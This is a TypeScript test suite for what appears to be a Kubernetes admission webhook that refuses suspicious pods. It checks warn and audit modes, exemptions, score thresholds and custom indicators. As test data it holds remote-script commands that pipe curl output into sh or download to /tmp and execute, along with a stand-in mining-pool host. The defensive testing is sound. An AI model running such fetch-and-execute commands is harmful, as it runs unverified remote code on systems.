import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { SentryPolicySpec } from '../../api/sentry-policy.ts';
import { KIND } from '../../kube/kind.ts';
import { denialsIn, eventually, MINER, openScene, podOf, refusal, type Scene } from './harness.ts';

let scene: Scene;
beforeEach(async () => {
  scene = await openScene();
});
afterEach(() => scene[Symbol.asyncDispose]());

async function setPolicy(spec: SentryPolicySpec, namespace = 'kubesentry-system'): Promise<void> {
  await scene.cluster.create(KIND.SentryPolicy, {
    apiVersion: 'kubesentry.io/v1alpha1',
    kind: 'SentryPolicy',
    metadata: { name: 'test', namespace },
    spec,
  });
}

/** Tries until the policy has reached the webhook. */
const create = (namespace: string, name: string) =>
  scene.as('alice').create(KIND.Pod, podOf(name, namespace, MINER));
const admitted = (namespace: string) =>
  eventually(() => create(namespace, `x-${performance.now()}`).catch(() => undefined), 'admitted');

describe('a policy', () => {
  it('in mode warn admits with a warning that names the record', async () => {
    await setPolicy({ admission: { mode: 'warn' } });
    await admitted('shop');
    const warning = scene.warnings.at(-1) ?? '';
    expect(warning).toMatch(/^kubesentry: Pod shop\/x-.* would be refused: .* Record d-[0-9a-f]{16}\.$/);
    expect(warning.length).toBeLessThanOrEqual(256);
    await scene.webhook.denialsKept();
    expect((await denialsIn(scene.cluster, 'shop')).map(({ spec }) => spec.verdict)).toContain('warn');
  });

  it('in mode audit admits silently and records', async () => {
    await setPolicy({ admission: { namespaces: [{ names: ['shop'], mode: 'audit' }] } });
    await admitted('shop');
    expect(scene.warnings).toEqual([]);
    await scene.webhook.denialsKept();
    expect((await denialsIn(scene.cluster, 'shop')).map(({ spec }) => spec.verdict)).toContain('allow');
    expect(await refusal(create('billing', 'x'))).toContain('is refused');
  });

  it('exempts what it names, and nothing beside it', async () => {
    await setPolicy({ exemptions: [{ namespaces: ['shop'], reason: 'a drill' }] });
    await admitted('shop');
    expect(await refusal(create('billing', 'x'))).toContain('is refused');
  });

  it('that exempts an image spares no other container, however many of that image stand before it', async () => {
    const exempt = 'registry.example.com/ok';
    await setPolicy({ exemptions: [{ images: [exempt], reason: 'a drill' }] });
    const mining = (count: number, image: string) => {
      const pod = podOf(`x-${performance.now()}`, 'shop', { ...MINER, image });
      const before = Array.from({ length: count }, (_, at) => ({ name: `c${at}`, ...MINER, image: exempt }));
      return { ...pod, spec: { ...(pod.spec as object), initContainers: before } };
    };
    const create = (count: number, image: string) => scene.as('alice').create(KIND.Pod, mining(count, image));
    await eventually(() => create(0, exempt).catch(() => undefined), 'admitted');
    for (const count of [1, 63, 64, 100]) {
      expect(await refusal(create(count, 'registry.example.com/other')), `${count}`).toContain('is refused');
    }
    await create(100, exempt);
  });

  it('exempts a workload with what its controller makes, and not who writes that it is made by it', async () => {
    const kinds = { apiVersion: 'apps/v1', kind: 'DaemonSet', name: 'bench', uid: 'u', controller: true };
    const owned = (name: string) => {
      const pod = podOf(name, 'shop', MINER);
      pod.metadata.ownerReferences = [kinds];
      return pod;
    };
    await setPolicy({
      exemptions: [{ namespaces: ['shop'], workloads: ['DaemonSet/bench'], reason: 'a drill' }],
    });
    await eventually(
      () =>
        scene
          .as('daemonSets')
          .create(KIND.Pod, owned('bench-x'))
          .catch(() => undefined),
      'a pod of the controller',
    );
    expect(await refusal(scene.as('alice').create(KIND.Pod, owned('bench-y')))).toContain('is refused');
    // What is there may be changed by others.
    const key = { namespace: 'shop', name: 'bench-x' };
    await scene.as('alice').patch(KIND.Pod, key, { metadata: { labels: { team: 'a' } } });
  });

  it('counts only in kubesentry-system', async () => {
    await setPolicy({ admission: { mode: 'off' } }, 'shop');
    await setPolicy({ admission: { namespaces: [{ names: ['billing'], mode: 'off' }] } });
    await admitted('billing');
    expect(await refusal(create('shop', 'x'))).toContain('is refused');
  });

  it('goes by the labels of the namespace', async () => {
    await scene.cluster.patch(KIND.Namespace, { name: 'shop' }, { metadata: { labels: { kind: 'lab' } } });
    await setPolicy({
      admission: { namespaces: [{ selector: { matchLabels: { kind: 'lab' } }, mode: 'warn' }] },
    });
    await admitted('shop');
    expect(await refusal(create('billing', 'x'))).toContain('is refused');
  });

  it('moves the score from which on a request is refused', async () => {
    const suspect = { command: ['sh', '-c', 'curl -s https://example.org/install.sh | sh'] };
    const make = (name: string) => scene.as('alice').create(KIND.Pod, podOf(name, 'shop', suspect));
    await make('before');
    expect(scene.warnings.join()).toContain('remote-script');
    await setPolicy({ admission: { thresholds: { deny: 50 } } });
    await make('still-forty');
    const twice = {
      command: [
        'sh',
        '-c',
        'curl -s https://example.org/install.sh -o /tmp/.x; sh /tmp/.x; curl -s https://a.org/b | sh',
      ],
    };
    await eventually(
      () =>
        scene
          .as('alice')
          .create(KIND.Pod, podOf(`x-${performance.now()}`, 'shop', twice))
          .then(
            () => undefined,
            (error: Error) => (error.message.includes('is refused') ? true : undefined),
          ),
      'refused',
    );
  });

  it('adds indicators of its own', async () => {
    await setPolicy({ indicators: { pools: ['pool.evil.example'] } });
    const message = await eventually(
      () =>
        scene
          .as('alice')
          .create(
            KIND.Pod,
            podOf(`x-${performance.now()}`, 'shop', { args: ['--url', 'pool.evil.example:443'] }),
          )
          .then(
            () => undefined,
            (error: Error) => error.message,
          ),
      'refused',
    );
    expect(message).toContain('pool-host');
  });
});

describe('without a policy', () => {
  it('audits the namespaces that the cluster lives on', async () => {
    await create('kube-system', 'x');
    await scene.webhook.denialsKept();
    expect((await denialsIn(scene.cluster, 'kube-system'))[0]?.spec.verdict).toBe('allow');
  });
});
